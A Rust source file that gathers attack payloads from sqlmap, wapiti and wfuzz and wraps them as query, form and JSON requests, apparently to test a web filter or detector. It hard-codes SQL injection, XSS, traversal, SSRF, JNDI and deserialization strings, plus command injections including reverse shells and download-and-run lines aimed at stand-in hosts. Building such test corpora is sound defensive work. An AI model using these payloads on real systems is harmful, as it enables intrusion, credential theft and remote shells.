//! Attack corpora, and the ways in which a payload reaches an application.

use std::fs;

use crate::Owned;
use crate::words::{Chance, encoded};

/// Payloads of one source.
pub struct Corpus {
    pub name: &'static str,
    pub payloads: Vec<String>,
    /// Whether they are what the base groups are for; commands of operating systems have groups of their own.
    pub for_the_base: bool,
}

/// Payloads that are taken of a source that makes many.
const PAYLOADS_MAX: usize = 3000;

const WFUZZ: &str = "/usr/share/wfuzz/wordlist";
const WAPITI: &str = "/usr/lib/python3/dist-packages/wapitiCore/data/attacks";
const SQLMAP: &str = "/usr/share/sqlmap/data/xml";

/// Every corpus; without payloads where its package is not installed.
pub fn corpora() -> Vec<Corpus> {
    let corpus = |name, payloads| Corpus { name, payloads, for_the_base: true };
    vec![
        corpus("sqlmap payloads in its boundaries", sqlmap()),
        corpus("wapiti blind SQL", lines(&format!("{WAPITI}/blindSQLPayloads.txt"))),
        corpus("wapiti XSS", ini(&format!("{WAPITI}/xssPayloads.ini"))),
        corpus("wapiti file handling", ini(&format!("{WAPITI}/fileHandlingPayloads.ini"))),
        corpus("wapiti XXE", ini(&format!("{WAPITI}/xxePayloads.ini"))),
        corpus("wfuzz SQL", sql_lines()),
        corpus("wfuzz XSS", lines(&format!("{WFUZZ}/Injections/XSS.txt"))),
        corpus("wfuzz traversal", traversals()),
        corpus("written here", WRITTEN.iter().map(|text| (*text).to_owned()).collect()),
        Corpus {
            name: "wapiti commands",
            payloads: lines(&format!("{WAPITI}/execPayloads.txt")),
            for_the_base: false,
        },
        Corpus {
            name: "commands written here",
            payloads: COMMANDS.iter().map(|text| (*text).to_owned()).collect(),
            for_the_base: false,
        },
    ]
}

/// A payload as a query argument, in a form and in JSON.
pub fn carried(payload: &str) -> [Owned; 3] {
    let json = serde_json::json!({"id": 7, "value": payload}).to_string();
    [
        Owned {
            method: "GET",
            target: format!("/item?id={}", encoded(payload)),
            headers: vec![],
            body: vec![],
        },
        Owned {
            method: "POST",
            target: "/item".into(),
            headers: vec![("Content-Type", "application/x-www-form-urlencoded".into())],
            body: format!("a=1&id={}&b=2", encoded(payload)).into_bytes(),
        },
        Owned {
            method: "POST",
            target: "/api/item".into(),
            headers: vec![("Content-Type", "application/json".into())],
            body: json.into_bytes(),
        },
    ]
}

fn lines(path: &str) -> Vec<String> {
    let text = fs::read(path)
        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
        .unwrap_or_default();
    let chosen = text
        .lines()
        .map(str::trim_end)
        .filter(|line| !line.trim().is_empty() && !line.starts_with("; "));
    chosen.map(filled).collect()
}

/// The payloads of wapiti's files with sections; a line that begins with a blank goes on with the one before.
fn ini(path: &str) -> Vec<String> {
    let text = fs::read_to_string(path).unwrap_or_default();
    let (mut out, mut inside) = (Vec::new(), false);
    for line in text.lines() {
        if let Some(first) = line.strip_prefix("payload =") {
            inside = true;
            out.push(filled(first.trim()));
        } else if inside && line.starts_with([' ', '\t']) {
            out.push(filled(line.trim()));
        } else {
            inside = false;
        }
    }
    out.retain(|payload| !payload.is_empty());
    out
}

/// wfuzz lists of SQL hold single marks and words, too, which are no attack.
fn sql_lines() -> Vec<String> {
    let all = lines(&format!("{WFUZZ}/Injections/SQL.txt"));
    let more = lines(&format!("{WFUZZ}/vulns/sql_inj.txt"));
    all.into_iter().chain(more).filter(|line| line.len() >= 8 && line.contains(' ')).collect()
}

fn traversals() -> Vec<String> {
    let files =
        ["Injections/Traversal.txt", "vulns/dirTraversal-nix.txt", "vulns/dirTraversal-win.txt"];
    let all = files.iter().flat_map(|file| lines(&format!("{WFUZZ}/{file}")));
    // Payloads are sent encoded once; those that are encoded already come out encoded twice.
    all.filter(|line| line.contains("..") || line.contains("%2e") || line.contains("etc")).collect()
}

/// A template with its places filled in.
fn filled(template: &str) -> String {
    const PLACES: [(&str, &str); 34] = [
        ("[RANDNUM]", "4821"),
        ("[RANDNUM1]", "7733"),
        ("[RANDNUM2]", "1290"),
        ("[RANDNUM3]", "5512"),
        ("[RANDNUM4]", "9071"),
        ("[RANDNUM5]", "3348"),
        ("[RANDSTR]", "qKxZ"),
        ("[RANDSTR1]", "mWpe"),
        ("[RANDSTR2]", "tRoi"),
        ("[SLEEPTIME]", "5"),
        ("[TIME]", "7"),
        ("[INFERENCE]", "4821=4821"),
        ("[DELAYED]", "5000000"),
        ("[DELIMITER_START]", "qbzvq"),
        ("[DELIMITER_STOP]", "qpvkq"),
        ("[HASH_REPLACE]", "#"),
        ("[AT_REPLACE]", "@"),
        ("[SPACE_REPLACE]", " "),
        ("[DOLLAR_REPLACE]", "$"),
        ("[ORIGVALUE]", "1"),
        ("[ORIGINAL]", "1"),
        ("[VALUE]", "1"),
        ("[LF]", "\n"),
        ("[TAB]", "\t"),
        ("[GENERIC_SQL_COMMENT]", "-- qKxZ"),
        ("[QUERY]", "SELECT USER()"),
        ("[UNION]", "UNION ALL SELECT NULL,NULL"),
        ("[CHAR]", "NULL"),
        ("[COLSTART]", "1"),
        ("[COLSTOP]", "10"),
        ("__XSS__", "w1xsz"),
        ("[EXTERNAL_ENDPOINT]", "https://wapiti3.ovh/"),
        ("[FILE_NAME]", "index.php"),
        ("[DIRNAME]", "/var/www"),
    ];
    PLACES
        .iter()
        .fold(template.to_owned(), |text, (place, value)| text.replace(place, value))
        .replace("\\0", "\0")
}

/// Every payload of sqlmap in every boundary that fits it, as sqlmap combines them: a part of them that is chosen by chance.
fn sqlmap() -> Vec<String> {
    let boundaries = blocks(
        &fs::read_to_string(format!("{SQLMAP}/boundaries.xml")).unwrap_or_default(),
        "boundary",
    );
    let kinds = [
        "boolean_blind",
        "error_based",
        "inline_query",
        "stacked_queries",
        "time_blind",
        "union_query",
    ];
    let mut out = Vec::new();
    for kind in kinds {
        let text = fs::read_to_string(format!("{SQLMAP}/payloads/{kind}.xml")).unwrap_or_default();
        for test in blocks(&text, "test") {
            let payload = match (member(&test, "payload"), kind) {
                (_, "union_query") => {
                    "UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x62),NULL".to_owned()
                }
                (payload, _) => payload,
            };
            let comment = member(&test, "comment");
            for boundary in &boundaries {
                let fits = |name| {
                    let (own, of) = (member(&test, name), member(boundary, name));
                    let of: Vec<&str> = of.split(',').collect();
                    own == "0" || of.contains(&"0") || own.split(',').any(|one| of.contains(&one))
                };
                if fits("clause") && fits("where") {
                    let (prefix, suffix) = (member(boundary, "prefix"), member(boundary, "suffix"));
                    let suffix = if comment.is_empty() { suffix } else { comment.clone() };
                    out.push(filled(&format!("1{prefix} {payload}{suffix}")));
                }
            }
        }
    }
    let mut chance = Chance::new(7);
    while out.len() > PAYLOADS_MAX {
        out.swap_remove(chance.below(out.len()));
    }
    out
}

/// The texts of the elements of a name that stand in no comment.
fn blocks(xml: &str, name: &str) -> Vec<String> {
    let mut text = String::new();
    let mut rest = xml;
    while let Some((before, after)) = rest.split_once("<!--") {
        text.push_str(before);
        rest = after.split_once("-->").map_or("", |(_, after)| after);
    }
    text.push_str(rest);
    let (start, end) = (format!("<{name}>"), format!("</{name}>"));
    let parts = text.split(&start).skip(1);
    parts.filter_map(|part| part.split(&end).next()).map(str::to_owned).collect()
}

fn member(block: &str, name: &str) -> String {
    let text = block
        .split_once(&format!("<{name}>"))
        .and_then(|(_, rest)| rest.split_once(&format!("</{name}>")));
    let text = text.map_or("", |(text, _)| text);
    text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&")
}

const WRITTEN: [&str; 74] = [
    "1' or '1'='1",
    "admin'-- ",
    "' or 1=1#",
    "\" or \"\"=\"",
    "') or ('a'='a",
    "1 union select 1,2,3-- -",
    "-1' UNION/**/ALL/**/SELECT/**/null,version(),null#",
    "1'/**/and/**/sleep(5)/**/#",
    "1; DROP TABLE users; --",
    "'; exec master..xp_cmdshell 'dir'--",
    "1 and extractvalue(1,concat(0x7e,(select user())))",
    "1' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)-- ",
    "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "1;waitfor delay '0:0:5'--",
    "1 or pg_sleep(5)--",
    "' || (select utl_inaddr.get_host_address('x') from dual) || '",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "0x31 or 0x31=0x31",
    "1'||'1'||'1' = '111",
    "'+(select*from(select(sleep(20)))a)+'",
    "1' order by 10-- ",
    "1) or sleep(5)#",
    "%' and 1=0 union all select null,concat(first_name,0x0a,password) from users #",
    "{\"$ne\": null}",
    "' || 1==1 || '",
    "<script>alert(1)</script>",
    "<ScRiPt >alert(document.cookie)</sCrIpT>",
    "\"><script src=//x.example/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "' onfocus=alert(1) autofocus='",
    "javascript:alert(1)",
    "\"-alert(1)-\"",
    "';alert(String.fromCharCode(88,83,83))//",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "{{constructor.constructor('alert(1)')()}}",
    "<isindex action=javascript:alert(1)>",
    "<form><button formaction=javascript:alert(1)>x",
    "<a onmouseover=eval(atob('YWxlcnQoMSk='))>x</a>",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "/etc/passwd",
    "file:///etc/shadow",
    "php://filter/convert.base64-encode/resource=index.php",
    "..\\..\\..\\windows\\win.ini",
    "C:\\windows\\system32\\drivers\\etc\\hosts",
    "/proc/self/environ",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://[::ffff:a9fe:a9fe]/",
    "gopher://127.0.0.1:6379/_INFO",
    "http://203.0.113.66/shell.txt?",
    "${jndi:ldap://x.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
    "${${lower:j}ndi:${lower:l}dap://x.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
    "__proto__[isAdmin]=true",
    "{\"constructor\":{\"prototype\":{\"a\":1}}}",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
    "require('child_process').execSync('id')",
];

const COMMANDS: [&str; 24] = [
    ";cat /etc/hostname",
    "| whoami",
    "`id`",
    "$(id)",
    "&& ls -la /",
    "; ping -c 5 127.0.0.1",
    "a;wget http://x.example/a.sh",
    "|nc -e /bin/sh 203.0.113.5 4444",
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "; rm -rf /tmp/x",
    "() { :; }; /bin/bash -c 'id'",
    "cat${IFS}/etc/hostname",
    "& dir",
    "cmd.exe /c whoami",
    "| type C:\\inetpub\\wwwroot\\web.config",
    "powershell -enc SQBFAFgAIAAoAE4AZQB3",
    "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
    "& net user evil Pass123 /add",
    "certutil -urlcache -f http://x/a.exe a.exe",
    "; python3 -c 'import os'",
    "<?php system($_GET['c']); ?>",
    "phpinfo()",
    "O:8:\"Example1\":1:{s:10:\"cache_file\";s:15:\"../../index.php\";}",
    "; sleep 5 ;",
];
